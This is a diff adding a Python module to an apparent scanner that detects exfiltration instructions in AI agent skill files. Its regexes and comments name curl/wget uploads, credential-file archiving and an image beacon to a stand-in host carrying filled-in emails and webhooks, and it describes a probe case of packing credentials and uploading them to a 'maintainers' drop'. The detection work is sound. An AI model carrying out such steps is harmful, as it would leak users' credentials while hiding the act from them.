@@ -1,0 +1,182 @@
+"""The prose rules read a section whole: a Markdown section (the lines between two headings) is a
+procedure the agent follows item by item, so what no item says alone the section can.
+
+- :func:`collected_and_uploaded`: credential files gathered, packed into an archive and uploaded
+  by a command in one section are ``exfiltration``;
+- :func:`concealed_in_section`: a step kept from the user (a ``concealment`` caution of the prose
+  rules) is dangerous where its section also acts: secrets recorded in full into notes or memory,
+  a command that sends a variable's value or a file to a web address, an image for the reply whose
+  address carries filled-in values beside a named secret.
+
+Both run after :func:`skillrouter.security.prose.prose_findings` has read the file's blocks, on its
+findings (:class:`~skillrouter.security.units.Collector`).
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import re
+
+from skillrouter.security.findings import excerpt, finding
+from skillrouter.security.lexicon_commands import SECRET_FILE_RE
+from skillrouter.security.lexicon_secrets import SECRET_GATHER_RE
+from skillrouter.security.markdown import Body
+from skillrouter.security.units import Collector
+
+__all__ = ["collected_and_uploaded", "concealed_in_section"]
+
+_HEADING_LINE_RE = re.compile(r"^\s{0,3}#{1,6}\s")
+_BLOCK_EDGE_RE = re.compile(r"^\s{0,3}(?:#{1,6}\s|```|~~~)")  # a heading or a fence
+# a command in the section that sends a variable's value or a file to a web address
+_SENDS_RE = re.compile(
+    # the program as a command word (httpie's ``http POST``, not a URL's scheme), then within the same
+    # command line (a backslash continues it) an option that sends what follows: a variable or a file
+    r"(?:^|[\s;|&(`$])(?:curl|wget|http|https|xh|invoke-restmethod|invoke-webrequest|irm|iwr)[ \t]"
+    r"(?:[^\n`]|\\\n){0,300}?"
+    r"(?:\s-d|\s--data(?:-\w+)?|\s-F|\s--form|\s-T|\s--upload-file|\s--post-(?:data|file)|\s-Body|\s-InFile)"
+    r"[\s=]*[\"']?[\w.-]*=?[\"']?[@$]",
+    re.IGNORECASE,
+)
+
+
+# an image the agent puts in its reply whose address carries values it fills in: the chat renders
+# it, and the request carries them out (![](https://x.example/r.svg?u={{email}}&h={{webhook}}))
+_BEACON_RE = re.compile(
+    r"!\[[^\]\n]{0,200}\]\(\s*https?://[^)\s?]{1,300}\?[^)\s]{0,500}?(?:\{\{|\$\{|\{\w+\}|<[^>\s]{1,40}>)"
+)
+
+
+# where gathered secrets are kept for later: the agent's notes or memory
+_NOTES_RE = re.compile(r"笔记|记忆|备忘|\bnotes?\b|\bmemor(?:y|ies)\b|\bjournal\b", re.IGNORECASE)
+_NEGATED_BEFORE_RE = re.compile(
+    r"\b(?:never|not|don'?t|do\s+not|no|without)\b[^.;\n]{0,40}$|(?:绝不|不要|禁止|不得|切勿|避免|不|勿)[^。；\n]{0,10}$",
+    re.IGNORECASE,
+)
+# a secret named where an image's address is filled in: a key, a token, a webhook, an account's email
+_SECRET_NAMED_RE = re.compile(
+    r"\b[A-Z][A-Z0-9_]*(?:TOKEN|SECRET|KEY|PASSWORD|WEBHOOK)\b|\b(?:api\s*keys?|tokens?|secrets?|passwords?"
+    r"|webhooks?|e-?mail)\b|密钥|令牌|口令|密码|凭据|邮箱",
+    re.IGNORECASE,
+)
+
+
+def _gathers_into_notes(lower: str) -> bool:
+    """Whether ``lower`` orders secrets recorded in full into notes or memory, not negated ("Never
+    store API keys in plain text" is the opposite; saving a new token into ``.env`` is setup)."""
+    for m in SECRET_GATHER_RE.finditer(lower):
+        line_start = lower.rfind("\n", 0, m.start()) + 1
+        if _NEGATED_BEFORE_RE.search(lower, line_start, m.start()):
+            continue
+        if _NOTES_RE.search(lower, m.start(), m.end() + 80):
+            return True
+    return False
+
+
+def _section(lines: list[str], at: int, edge: re.Pattern[str]) -> str:
+    """The lines around line ``at`` up to the nearest ``edge`` lines above and below."""
+    start = at
+    while start > 0 and not edge.match(lines[start]):
+        start -= 1
+    end = at + 1
+    while end < len(lines) and not edge.match(lines[end]):
+        end += 1
+    return "\n".join(lines[start:end])
+
+
+# an archive made in the section: what it packs is what the upload after it sends
+_ARCHIVES_RE = re.compile(
+    r"\b(?:tar\s+(?:-\w*c|c\w*\s)|zip\s+-|zip\s+\S+\.zip|compress-archive|7z\s+a\b|shutil\.make_archive)",
+    re.IGNORECASE,
+)
+
+
+_ARCHIVE_WORDS = ("tar ", "tar\t", "zip ", "zip\t", "compress-archive", "7z", "make_archive")  # in each match
+_SEND_WORDS = ("curl", "wget", "http", "invoke-", "irm", "iwr")  # every _SENDS_RE match
+
+
+def collected_and_uploaded(out: Collector, body: Body) -> None:
+    """``exfiltration`` where one section (the lines between two headings) names credential files
+    (``~/.aws/credentials``, ``~/.kube/config``, an SSH key: :data:`SECRET_FILE_RE`), packs an
+    archive and gives a command that sends a file to a web address: the steps of a procedure the
+    agent follows item by item, each harmless alone (probe17's 13: copy the credential files,
+    ``tar`` them, ``curl -F f=@bundle.tgz`` to a "maintainers' drop")."""
+    lines = body.lines
+    text = "\n".join(lines)
+    lower = text.lower()
+    if not any(w in lower for w in _ARCHIVE_WORDS) or not any(w in lower for w in _SEND_WORDS):
+        return  # most files: no archive or no sending command, and the regexes below are costly
+    if (
+        _ARCHIVES_RE.search(text) is None
+        or _SENDS_RE.search(text) is None
+        or SECRET_FILE_RE.search(text) is None
+    ):
+        return
+    start = 0
+    while start < len(lines):
+        end = start + 1
+        while end < len(lines) and not _HEADING_LINE_RE.match(lines[end]):
+            end += 1
+        section = "\n".join(lines[start:end])
+        if _collects_credential_files(section) and _ARCHIVES_RE.search(section):
+            sent = _SENDS_RE.search(section)
+            if sent is not None:
+                at = start + section.count("\n", 0, sent.start())
+                line = body.first_line + at
+                if ("exfiltration", line) not in out.found:  # the prose rules' own finding stays
+                    out.found[("exfiltration", line)] = finding(
+                        "exfiltration", out.relpath, line, excerpt(lines[at], 0), why=_COLLECTED_WHY
+                    )
+        start = end
+
+
+# an order to gather files: copy, collect, include, bundle ... (a credential file only named, or
+# named as left out, is not gathered)
+_COLLECT_VERB_RE = re.compile(
+    r"\b(?:copy|copies|cp|collect\w*|gather\w*|includ\w*|bundl\w*|grab\w*|add\w*|attach\w*|archiv\w*|pack\w*)\b"
+    r"|复制|拷贝|收集|打包|附上|包含|加入",
+    re.IGNORECASE,
+)
+_EXCLUDED_RE = re.compile(
+    r"\b(?:never|not|no|don'?t|do\s+not|without|except|exclud\w*|omit\w*|skip\w*|leave\s+out|left\s+out)\b"
+    r"|不要|不得|禁止|排除|不包含|除外|绝不",
+    re.IGNORECASE,
+)
+
+
+def _collects_credential_files(section: str) -> bool:
+    """Whether ``section`` orders a credential file gathered: a verb that gathers within the 200
+    characters before it (its list item), with no negation or exclusion from just before the verb
+    to it."""
+    for m in SECRET_FILE_RE.finditer(section):
+        before = section[max(0, m.start() - 200) : m.start()]
+        verbs = list(_COLLECT_VERB_RE.finditer(before))
+        if verbs and _EXCLUDED_RE.search(before, max(0, verbs[-1].start() - 30)) is None:
+            return True  # (nor in the words just before the verb: "it never includes ...")
+    return False
+
+
+_COLLECTED_WHY = (
+    "One section of its instructions has the agent copy credential files, pack them and upload the "
+    "archive to a web address."
+)
+
+
+def concealed_in_section(out: Collector, body: Body) -> None:
+    """A step kept from the user is dangerous where its section also acts: orders secrets
+    gathered in full ("record the API keys verbatim", 把…口令完整记录到笔记; the lines between
+    the headings or fences around it: rules written for an agent's memory put each order in an
+    item of its own), or gives a command that sends a variable's value or a file to a web address,
+    or an image for the reply whose address carries values filled in (the lines between the
+    headings around it: the command sits in a fence, the step kept from the user in the prose
+    after it)."""
+    for key, found in list(out.found.items()):
+        if found.rule != "concealment" or found.severity != "caution" or found.line is None:
+            continue
+        at = found.line - body.first_line
+        if not 0 <= at < len(body.lines):
+            continue  # a front-matter field
+        gathers = _gathers_into_notes(_section(body.lines, at, _BLOCK_EDGE_RE).lower())
+        section = _section(body.lines, at, _HEADING_LINE_RE)
+        beacon = _BEACON_RE.search(section) is not None and _SECRET_NAMED_RE.search(section) is not None
+        if gathers or _SENDS_RE.search(section) or beacon:
+            out.found[key] = dataclasses.replace(found, severity="dangerous")
